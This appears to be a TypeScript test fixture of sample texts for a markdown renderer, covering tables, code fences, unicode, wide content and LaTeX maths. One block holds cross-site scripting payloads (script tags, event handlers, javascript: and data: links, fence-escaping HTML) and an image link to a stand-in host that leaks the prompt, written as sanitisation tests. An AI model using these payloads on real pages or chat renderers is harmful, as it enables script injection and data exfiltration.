const MARKDOWN = `# Tides, briefly

The sea rises **twice a day** because the Moon pulls on it *unevenly*.

1. The near side is pulled more than the middle.
2. The far side is pulled less.
   - So both sides bulge.

| place | range |
|---|---:|
| Bay of Fundy | 16 m |
| Baltic | 0.1 m |

> Time and tide wait for no man.

Read \`tide.ts\` or [the almanac](https://example.org/almanac "Almanac").

---

Half a line,\\
and ~~no~~ more.
`;

const CODE = `Here it is:

\`\`\`ts
export function tide(hours: number): number {
  // Two highs and two lows in 24 h 50 min.
  return Math.cos((hours / 12.42) * 2 * Math.PI);
}
\`\`\`

And in Python:

\`\`\`python
def tide(hours: float) -> float:
    return cos(hours / 12.42 * 2 * pi)
\`\`\`

\`\`\`
a fence that nobody closes
`;

/** Each of these sets `window.pwned` or leaves the page's origin when it is let through. */
const SCRIPTS = `<script>window.pwned = 'script'</script>
<img src="x" onerror="window.pwned = 'onerror'">
<svg onload="window.pwned = 'onload'"></svg>
<iframe srcdoc="<script>parent.pwned = 'iframe'</script>"></iframe>
<a href="javascript:window.pwned = 'html link'">html link</a>

[link](javascript:window.pwned='link') and [coded](javascript&colon;window.pwned='coded')
[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)
<javascript:window.pwned='autolink'>

![spy](https://spy.example.org/pixel.png?leak=prompt)
![quoted](x" onerror="window.pwned='quoted')

\`\`\`html"><script>window.pwned='fence'</script>
</code></pre><script>window.pwned='code'</script>
\`\`\`

The end of the scripts.
`;

const UNICODE = `Grüße, 你好, こんにちは, שלום, مرحبا.

Family 👨‍👩‍👧‍👦, flag 🇨🇭, thumbs 👍🏽, decomposed e\u0301, zero\u200Bwidth, 𝕞𝕒𝕥𝕙.
`;

const WIDE = `${'unbroken'.repeat(60)}

\`\`\`
${'const wide = 1; '.repeat(30)}
\`\`\`

| ${Array.from({ length: 12 }, (_, column) => `column ${column + 1}`).join(' | ')} |
|${'---|'.repeat(12)}
| ${Array.from({ length: 12 }, (_, column) => `cell ${column + 1}`).join(' | ')} |
`;

/** Texts for `says-…`. */
/** Formulas in every form, one that is broken, and money that is none. */
const MATHS = String.raw`The roots of \(ax^2 + bx + c = 0\) are

$$
x_{1,2} = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}.
$$

With $p_i = \frac{e^{z_i}}{\sum_j e^{z_j}}$ and the sum of all $p_i$ being 1, it costs $5 to $10.

\[ \int_{-\infty}^{\infty} e^{-x^2} \, dx = \sqrt{\pi} \]

\begin{align}
f(x) &= \begin{cases} x & x \ge 0 \\ -x & \text{otherwise} \end{cases} \\
A &= \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}
\end{align}

| name | value |
| --- | --- |
| mean | $\bar{x} = \frac{1}{n} \sum_{i=1}^n x_i$ |

This one is broken: \(\frac{1}{\).
`;

export const SAMPLES = {
  markdown: MARKDOWN,
  code: CODE,
  scripts: SCRIPTS,
  unicode: UNICODE,
  wide: WIDE,
  maths: MATHS,
} as const;

export type SampleName = keyof typeof SAMPLES;
